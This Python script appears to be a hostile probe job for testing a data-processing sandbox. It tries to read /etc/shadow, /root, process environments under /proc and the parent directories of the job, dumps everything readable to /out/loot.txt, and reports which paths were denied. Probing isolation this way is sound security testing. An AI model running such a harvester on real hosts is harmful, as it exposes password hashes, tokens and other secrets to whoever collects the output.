"""Looks for anything of the host: reads every path in ``params.paths`` (and a fixed list: /root,
/etc/shadow, the parents of /data and /job, /proc/1/..., /sys, the environment), walking folders two
levels down, and writes all it could read to /out/loot.txt; /out/report.json says what each path gave
(``"denied: <error>"``, ``"missing"`` or what was read)."""

import json
import os
import stat
from pathlib import Path

JOB = Path(os.environ.get("DATAMARKET_JOB_DIR", "/job"))
OUT = Path(os.environ.get("DATAMARKET_OUT_DIR", "/out"))

LOOT_CAP = 2 << 20  # bytes of /out/loot.txt

TARGETS = [
    "/root",
    "/home",
    "/etc",
    "/etc/shadow",
    "/etc/hostname",
    "/job/..",
    "/job/../..",
    "/data/..",
    "/data/../../..",
    "/out/..",
    "/proc/1/environ",
    "/proc/1/root",
    "/proc/1/cwd",
    "/proc/self/environ",
    "/proc/self/mountinfo",
    "/sys",
    "/run",
    "/var",
    "/mnt",
    "/srv",
    "/opt",
]


def loot(path: str, depth: int, sink: list[str]) -> str:
    try:
        if os.path.isdir(path):
            names = sorted(os.listdir(path))
            sink.append(f"== {path}: {names}")
            if depth > 0:
                for name in names[:200]:
                    loot(os.path.join(path, name), depth - 1, sink)
            return f"listed {names}"
        if not os.path.lexists(path):
            return "missing"
        if not stat.S_ISREG(os.stat(path).st_mode):
            return "not a regular file"  # a device or a pipe could block
        with open(path, "rb") as file:
            data = file.read(65536)
        if not path.startswith(("/usr/", "/proc/")):  # the system's own files are no loot
            sink.append(f"== {path}\n{data.decode(errors='replace')}")
        return f"read {len(data)} bytes"
    except OSError as exc:
        return f"denied: {type(exc).__name__}: {exc.strerror}"


def main() -> None:
    params = json.loads((JOB / "params.json").read_text()).get("params") or {}
    sink: list[str] = [f"== environ {dict(os.environ)}"]
    report = {path: loot(path, 2, sink) for path in [*params.get("paths", []), *TARGETS]}
    report["environ"] = sorted(os.environ)
    (OUT / "loot.txt").write_text("\n".join(sink)[:LOOT_CAP])
    (OUT / "report.json").write_text(json.dumps(report, indent=1))
    print("looted", len(sink), "entries", flush=True)


if __name__ == "__main__":
    main()
